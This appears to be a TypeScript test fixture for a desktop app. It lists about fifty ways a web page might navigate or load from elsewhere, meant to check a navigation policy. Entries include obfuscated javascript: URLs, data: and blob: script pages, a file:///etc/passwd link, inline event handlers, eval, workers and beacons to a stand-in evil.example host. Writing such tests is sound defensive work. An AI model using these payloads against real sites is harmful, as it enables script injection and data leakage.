/**
 * Ways out of the window, and what stands behind each: the browser journey tries them in a real page, the desktop host's policy
 * is asked about the same addresses.
 *
 * `way` is how the address is asked for: by leaving the page, as a new window, in a frame, or as something the page loads.
 * `html` is put into the page as it stands, and what carries `data-act` is then clicked, dragged or submitted like a person
 * would; `script` runs in the page as if its own code had been talked into it.
 */
export interface HostileNavigation {
  readonly name: string;
  readonly way: 'leave' | 'window' | 'frame' | 'load';
  /** The address asked for. */
  readonly url: string;
  readonly html?: string;
  readonly act?: 'click' | 'middle-click' | 'control-click' | 'drag' | 'enter';
  readonly script?: string;
}

const RUN = 'globalThis.__ran=(globalThis.__ran||0)+1';

/** @param other origin of a server that is not ours, on this machine; @param evil a name on the network */
export function hostileNavigations(other: string, evil = 'http://evil.example'): HostileNavigation[] {
  const ws = other.replace('http', 'ws');
  const link = (url: string, attributes = ''): string => `<a data-act href="${url}" ${attributes}>statement</a>`;
  const bare = evil.replace('http:', '');
  const page = `data:text/html,<script>${RUN}</script>`;
  return [
    { name: 'a link that is a script', way: 'leave', url: `javascript:${RUN}`, html: link(`javascript:${RUN}`), act: 'click' },
    { name: 'a script with a tab in its name', way: 'leave', url: `java\tscript:${RUN}`, html: link(`java&#9;script:${RUN}`), act: 'click' },
    { name: 'a script behind a space', way: 'leave', url: ` javascript:${RUN}`, html: link(` &#1;javascript:${RUN}`), act: 'click' },
    { name: 'a script by the Enter key', way: 'leave', url: `JaVaScRiPt:${RUN}//`, html: link(`JaVaScRiPt:${RUN}//`), act: 'enter' },
    { name: 'a page in a link', way: 'leave', url: page, html: link(page), act: 'click' },
    { name: 'a file of this machine', way: 'leave', url: 'file:///etc/passwd', html: link('file:///etc/passwd'), act: 'click' },
    { name: 'a page made here', way: 'leave', url: 'blob:http://127.0.0.1:1/0b5', script: `location.href = URL.createObjectURL(new Blob(['<script>${RUN}</scr'+'ipt><img src=${other}/a>'], { type: 'text/html' }))` },
    { name: 'an address without a scheme', way: 'leave', url: evil, html: link(bare), act: 'click' },
    { name: 'another port of this machine', way: 'leave', url: `${other}/port`, html: link(`${other}/port`), act: 'click' },
    { name: 'our own name before another host', way: 'leave', url: `http://app@${other.slice(7)}/`, html: link(`http://app@${other.slice(7)}/`), act: 'click' },
    { name: 'a scheme of another program', way: 'leave', url: 'evilapp://run', html: link('evilapp://run'), act: 'click' },
    { name: 'a link to save', way: 'leave', url: `${other}/save.exe`, html: link(`${other}/save.exe`, 'download'), act: 'click' },
    { name: 'a link in a drawing', way: 'leave', url: `${other}/svg`, html: `<svg width="80" height="20"><a data-act href="${other}/svg"><rect width="80" height="20"></rect></a></svg>`, act: 'click' },
    { name: 'a picture with places to click', way: 'leave', url: `${other}/map`, html: `<map name="m"><area data-area shape="default" href="${other}/map"></map><img data-act usemap="#m" width="80" height="20" src="/mark.svg">`, act: 'click' },
    { name: 'a link that tells of the click', way: 'load', url: `${other}/ping`, html: link('#here', `ping="${other}/ping"`), act: 'click' },
    { name: 'a link dragged onto the page', way: 'leave', url: `${other}/drag`, html: `${link(`${other}/drag`)}`, act: 'drag' },
    { name: 'a form that is sent', way: 'leave', url: `${other}/form`, html: `<form method="post" action="${other}/form"><button data-act name="a" value="b">Send</button></form>`, act: 'click' },
    { name: 'a form that asks', way: 'leave', url: `${other}/ask`, html: `<form action="${other}/ask"><input name="q" value="1"><button data-act>Send</button></form>`, act: 'click' },
    { name: 'a button with an address of its own', way: 'leave', url: `javascript:${RUN}`, html: `<form action="/"><button data-act formaction="javascript:${RUN}">Send</button></form>`, act: 'click' },
    { name: 'a page that leaves by itself', way: 'leave', url: `${other}/refresh`, html: `<meta http-equiv="refresh" content="0;url=${other}/refresh">` },
    { name: 'a page that leaves into a script', way: 'leave', url: `javascript:${RUN}`, script: `location.href = 'javascript:${RUN}'` },
    { name: 'an address that is changed', way: 'leave', url: `${other}/href`, script: `location.href = '${other}/href'` },
    { name: 'an address that is replaced', way: 'leave', url: `${evil}/replace`, script: `location.replace('${evil}/replace')` },
    { name: 'a history that is not ours', way: 'leave', url: `${other}/history`, script: `try { history.pushState(null, '', '${other}/history') } catch {} history.pushState(null, '', '/plans'); history.back()` },
    { name: 'a base that moves every address', way: 'load', url: `${other}/assets/x.js`, html: `<base href="${other}/"><a data-act href="settings">next</a><img src="base.png">`, act: 'click' },
    { name: 'a link into a new window', way: 'window', url: `${other}/blank`, html: link(`${other}/blank`, 'target="_blank"'), act: 'click' },
    { name: 'a link with the middle button', way: 'window', url: `${other}/middle`, html: link(`${other}/middle`), act: 'middle-click' },
    { name: 'a link with the control key', way: 'window', url: `${other}/control`, html: link(`${other}/control`), act: 'control-click' },
    { name: 'a window that is opened', way: 'window', url: `${other}/open`, script: `window.open('${other}/open')` },
    { name: 'an empty window that is written into', way: 'window', url: 'about:blank', script: `const w = window.open('about:blank'); w?.document.write('<img src=${other}/w><script>${RUN}</scr'+'ipt>')` },
    { name: 'a form into a new window', way: 'window', url: `${other}/form-blank`, html: `<form target="_blank" action="${other}/form-blank"><button data-act>Send</button></form>`, act: 'click' },
    { name: 'a frame', way: 'frame', url: `${other}/frame`, html: `<iframe src="${other}/frame"></iframe>` },
    { name: 'a frame that holds a page', way: 'frame', url: 'about:srcdoc', html: `<iframe srcdoc="<script>top.${RUN.replace('globalThis.', '')}</script><img src='${other}/srcdoc'>"></iframe>` },
    { name: 'an object', way: 'frame', url: `${other}/object`, html: `<object data="${other}/object"></object><embed src="${other}/embed">` },
    { name: 'a request', way: 'load', url: `${other}/fetch`, script: `void fetch('${other}/fetch', { mode: 'no-cors' }).catch(() => 0); const x = new XMLHttpRequest(); x.open('GET', '${other}/xhr'); try { x.send() } catch {}` },
    { name: 'a WebSocket', way: 'load', url: `${ws}/socket`, script: `try { new WebSocket('${ws}/socket') } catch {}` },
    { name: 'a stream of events', way: 'load', url: `${other}/events`, script: `try { new EventSource('${other}/events') } catch {}` },
    { name: 'a beacon', way: 'load', url: `${other}/beacon`, script: `navigator.sendBeacon('${other}/beacon', 'x')` },
    { name: 'a module from elsewhere', way: 'load', url: `${other}/module.js`, script: `void import('${other}/module.js').catch(() => 0)` },
    { name: 'a module in its own address', way: 'load', url: `data:text/javascript,${RUN}`, script: `void import('data:text/javascript,${RUN}').catch(() => 0)` },
    { name: 'a worker', way: 'load', url: `${other}/worker.js`, script: `for (const u of ['${other}/worker.js', URL.createObjectURL(new Blob(['fetch("${other}/inside")']))]) { try { new Worker(u) } catch {} try { new SharedWorker(u) } catch {} } navigator.serviceWorker?.register('${other}/sw.js').catch(() => 0)` },
    { name: 'a style that loads', way: 'load', url: `${other}/style.css`, html: `<style>@import url(${other}/import.css); @font-face { font-family: evil; src: url(${other}/font.woff2) } .evil { background: url(${other}/style.png); font-family: evil }</style><p class="evil" style="list-style: url(${other}/list.png)">x</p><link rel="stylesheet" href="${other}/style.css">` },
    { name: 'pictures, sound and film', way: 'load', url: `${other}/picture.png`, html: `<img src="${other}/picture.png" srcset="${other}/2x.png 2x"><picture><source srcset="${other}/source.png"><img></picture><video src="${other}/film" poster="${other}/poster.png" autoplay></video><audio src="${other}/sound" autoplay></audio><svg><image href="${other}/svg.png"></image><use href="${other}/use.svg#a"></use></svg><input type="image" src="${other}/input.png">` },
    { name: 'what is fetched before it is asked for', way: 'load', url: `${other}/next`, html: `<link rel="prefetch" href="${other}/next"><link rel="preload" as="image" href="${other}/pre.png"><link rel="modulepreload" href="${other}/pre.js"><link rel="icon" href="${other}/icon.png"><link rel="manifest" href="${other}/manifest.json"><script type="speculationrules">{"prefetch":[{"urls":["${other}/rule"]}]}</script>` },
    { name: 'a line that is opened beforehand', way: 'load', url: `${other}/`, html: `<link rel="preconnect" href="${other}"><link rel="dns-prefetch" href="${evil}">` },
    { name: 'a script from elsewhere', way: 'load', url: `${other}/script.js`, script: `document.body.append(Object.assign(document.createElement('script'), { src: '${other}/script.js' }))` },
    { name: 'a script in the page', way: 'load', url: `data:text/javascript;base64,eA==`, script: `document.body.append(Object.assign(document.createElement('script'), { textContent: '${RUN}' })); document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,${RUN}' }))` },
    { name: 'a handler in the page', way: 'load', url: `data:image/svg+xml,<svg onload="${RUN}"/>`, html: `<img src="/none.png" onerror="${RUN}"><button data-act onclick="${RUN}">Press</button><svg onload="${RUN}"></svg><details open ontoggle="${RUN}"><summary>s</summary></details>`, act: 'click' },
    { name: 'text that is run', way: 'load', url: `data:text/javascript,0`, script: `setTimeout(() => { for (const run of [() => eval('${RUN}'), () => new Function('${RUN}')(), () => setTimeout('${RUN}', 0)]) { try { run() } catch {} } }, 0)` },
  ];
}
